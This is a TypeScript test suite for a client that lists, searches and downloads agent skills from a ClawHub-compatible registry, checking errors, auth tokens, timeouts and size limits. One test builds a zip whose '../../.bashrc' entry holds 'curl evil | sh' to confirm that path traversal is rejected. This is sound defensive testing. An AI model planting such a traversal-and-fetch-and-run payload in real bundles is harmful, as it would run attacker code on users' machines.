import { ClawHubRegistry, type HubSkill, SkillHub } from "@cairn/skill-hub"
import { LocalCatalog } from "@cairn/skill-hub/node"
import { RegistryServer, writeCatalog } from "@cairn/skill-hub/testing"
import { assert, describe, it } from "@effect/vitest"
import { type Duration, Effect, Redacted } from "effect"
import { strToU8, zipSync } from "fflate"
import { createServer, type IncomingMessage, type ServerResponse } from "node:http"
import type { AddressInfo } from "node:net"
import { byPath, tempDir } from "./Fixtures.ts"
import { sampleCatalog } from "./SampleCatalog.ts"

/** The adapter under test, as an application gets it: from its layer. */
const client = (options: ClawHubRegistry.Options) =>
  Effect.gen(function*() {
    return yield* SkillHub
  }).pipe(Effect.provide(ClawHubRegistry.layer(options)))

/** The sample catalog, served by a real registry server; the client under test, and the catalog read directly. */
const registry = (options: Omit<RegistryServer.Options, "dir"> & { readonly token?: string } = {}) =>
  Effect.gen(function*() {
    const dir = yield* tempDir
    yield* writeCatalog(dir, sampleCatalog)
    const server = yield* RegistryServer.serve({ ...options, dir })
    const hub = yield* client({ url: server.url, token: options.token === undefined ? undefined : Redacted.make(options.token) })
    return { server, hub, catalog: yield* LocalCatalog.make({ dir }) }
  })

/** A plain HTTP server answering every request with `answer` (which may never answer). */
const rawServer = (answer: (request: IncomingMessage, response: ServerResponse) => void) =>
  Effect.acquireRelease(
    Effect.callback<ReturnType<typeof createServer>>((resume) => {
      const server = createServer(answer)
      server.listen(0, "127.0.0.1", () => resume(Effect.succeed(server)))
    }),
    (server) => Effect.callback<void>((resume) => {
      server.close(() => resume(Effect.void))
      server.closeAllConnections()
    })
  ).pipe(Effect.map((server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`))

const clientAt = (url: string, timeout?: Duration.Input) => client({ url, ...(timeout === undefined ? {} : { timeout }) })

/** How the registry server publishes a catalog skill: one without an owner is the `local` publisher's. */
const published = (skill: HubSkill): HubSkill => ({ ...skill, owner: skill.owner ?? "local" })

const slugs = (page: { readonly skills: ReadonlyArray<{ readonly slug: string }> }) => page.skills.map((skill) => skill.slug)

describe("ClawHubRegistry against a ClawHub-compatible registry serving the sample catalog", () => {
  it.live("gets a skill as the catalog has it, versions included", () =>
    Effect.gen(function*() {
      const { catalog, hub } = yield* registry()
      for (const slug of ["git-helper", "weather", "alpha-mail", "zeta-notes", "no-front-matter"]) {
        assert.deepStrictEqual(yield* hub.get(slug), published(yield* catalog.get(slug)))
      }
    }))

  it.live("lists with sort and cursor through the registry's listing, and searches with q", () =>
    Effect.gen(function*() {
      const { catalog, hub } = yield* registry()
      for (const sort of ["popular", "newest", "name"] as const) {
        const expected = yield* catalog.search({ sort })
        assert.deepStrictEqual(yield* hub.search({ sort }), { ...expected, skills: expected.skills.map(published) })
      }
      const first = yield* hub.search({ sort: "name", limit: 2 })
      assert.deepStrictEqual(slugs(first), ["alpha-mail", "git-helper"])
      const second = yield* hub.search({ sort: "name", limit: 2, cursor: first.nextCursor! })
      assert.deepStrictEqual(slugs(second), ["no-front-matter", "weather"])
      const last = yield* hub.search({ sort: "name", limit: 2, cursor: second.nextCursor! })
      assert.deepStrictEqual(slugs(last), ["zeta-notes"])
      assert.isNull(last.nextCursor)
      assert.deepStrictEqual(slugs(yield* hub.search({ category: "dev" })), ["alpha-mail", "git-helper"])
      const found = yield* hub.search({ q: "vcs" })
      assert.deepStrictEqual(slugs(found), ["git-helper"])
      assert.deepInclude(found.skills[0], { name: "Git Helper", version: "1.10.0", owner: "ada", installs: 40, featured: true })
      assert.isNull(found.nextCursor)
    }))

  it.live("downloads the newest version by default, and each version asked for, unpacked", () =>
    Effect.gen(function*() {
      const { hub } = yield* registry()
      const newest = yield* hub.download("git-helper")
      assert.strictEqual(newest.version, "1.10.0")
      assert.deepStrictEqual(byPath(newest.files), sampleCatalog["git-helper"].versions["1.10.0"].files)
      const older = yield* hub.download("git-helper", "1.2.0")
      assert.deepStrictEqual(older.slug, "git-helper")
      assert.deepStrictEqual(byPath(older.files), sampleCatalog["git-helper"].versions["1.2.0"].files)
    }))

  it.live("an unknown skill or version is HubSkillNotFound", () =>
    Effect.gen(function*() {
      const { hub } = yield* registry()
      assert.strictEqual((yield* Effect.flip(hub.get("nope"))).message, "Skill nope not found on the hub")
      assert.strictEqual((yield* Effect.flip(hub.download("nope"))).message, "Skill nope not found on the hub")
      assert.strictEqual(
        (yield* Effect.flip(hub.download("weather", "9.9.9"))).message,
        "Skill weather has no version 9.9.9 on the hub"
      )
    }))

  it.live("a bundle that climbs out of its folder is ValidationFailed", () =>
    Effect.gen(function*() {
      const evil = zipSync({ "SKILL.md": strToU8("x"), "../../.bashrc": strToU8("curl evil | sh") })
      const { hub } = yield* registry({ archive: (slug) => (slug === "weather" ? evil : undefined) })
      const error = yield* Effect.flip(hub.download("weather"))
      assert.strictEqual(error._tag, "ValidationFailed")
      assert.strictEqual(error.message, `Validation failed: the bundle's "../../.bashrc" leaves the bundle's folder (..)`)
    }))

  it.live("a version whose security verdict does not pass is refused before it is downloaded", () =>
    Effect.gen(function*() {
      const downloads: Array<string> = []
      const { hub } = yield* registry({
        verdict: (_, version) => (version === "1.2.0" ? { decision: "fail", reasons: ["security.status_not_clean"] } : undefined),
        onRequest: (request) => {
          if (request.url?.startsWith("/api/v1/download")) downloads.push(request.url)
        }
      })
      const error = yield* Effect.flip(hub.download("git-helper", "1.2.0"))
      assert.strictEqual(
        error.message,
        "Validation failed: the hub's security verdict for git-helper@1.2.0 is fail (security.status_not_clean)"
      )
      assert.deepStrictEqual(downloads, [])
      assert.strictEqual((yield* hub.download("git-helper")).version, "1.10.0")
    }))

  it.live("sends CLAWHUB_TOKEN as a bearer token", () =>
    Effect.gen(function*() {
      const seen: Array<string | undefined> = []
      const { hub } = yield* registry({ token: "clh_secret", onRequest: (request) => seen.push(request.headers.authorization) })
      yield* hub.get("weather")
      yield* hub.download("weather")
      assert.isNotEmpty(seen)
      assert.deepStrictEqual([...new Set(seen)], ["Bearer clh_secret"])
    }))
})

describe("ClawHubRegistry when the registry cannot be used", () => {
  const everyOperation = (hub: SkillHub["Service"]) =>
    Effect.all([
      Effect.flip(hub.get("weather")),
      Effect.flip(hub.search({})),
      Effect.flip(hub.search({ q: "weather" })),
      Effect.flip(hub.download("weather"))
    ])

  it.live("a closed port is SkillHubUnavailable (503) for every operation", () =>
    Effect.gen(function*() {
      const { server } = yield* registry()
      yield* server.close
      const hub = yield* clientAt(server.url)
      const failures = yield* everyOperation(hub)
      assert.deepStrictEqual(failures.map((failure) => failure._tag), Array(4).fill("SkillHubUnavailable"))
      assert.deepStrictEqual(failures.map((failure) => (failure as { status?: number }).status), Array(4).fill(503))
      assert.strictEqual(failures[0]!.message, `Skill hub unavailable: ${server.url} could not be reached`)
    }))

  it.live("a server error or an answer that is not the protocol is SkillHubUnavailable", () =>
    Effect.gen(function*() {
      const broken = yield* rawServer((_, response) => {
        response.writeHead(500)
        response.end("boom")
      })
      const html = yield* rawServer((_, response) => {
        response.writeHead(200, { "content-type": "text/html" })
        response.end("<html>not a registry</html>")
      })
      const wrongJson = yield* rawServer((_, response) => {
        response.writeHead(200, { "content-type": "application/json" })
        response.end(JSON.stringify({ skill: { slug: 42 }, results: "no", items: null }))
      })
      for (const url of [broken, html, wrongJson]) {
        const failures = yield* everyOperation(yield* clientAt(url))
        assert.deepStrictEqual(failures.map((failure) => failure._tag), Array(4).fill("SkillHubUnavailable"))
      }
    }))

  it.live("a registry that never answers is SkillHubUnavailable after the time limit", () =>
    Effect.gen(function*() {
      const silent = yield* rawServer(() => {})
      const started = Date.now()
      const error = yield* Effect.flip((yield* clientAt(silent, "200 millis")).get("weather"))
      assert.strictEqual(error._tag, "SkillHubUnavailable")
      assert.isBelow(Date.now() - started, 5_000)
    }))

  it.live("a zip larger than the archive limit is refused as it arrives", () =>
    Effect.gen(function*() {
      const dir = yield* tempDir
      yield* writeCatalog(dir, sampleCatalog)
      const server = yield* RegistryServer.serve({ dir, archive: () => new Uint8Array(2048).fill(7) })
      const hub = yield* client({ url: server.url, limits: { maxArchiveBytes: 1024 } })
      assert.strictEqual(
        (yield* Effect.flip(hub.download("weather"))).message,
        "Validation failed: the archive is larger than 1024 bytes"
      )
    }))
})
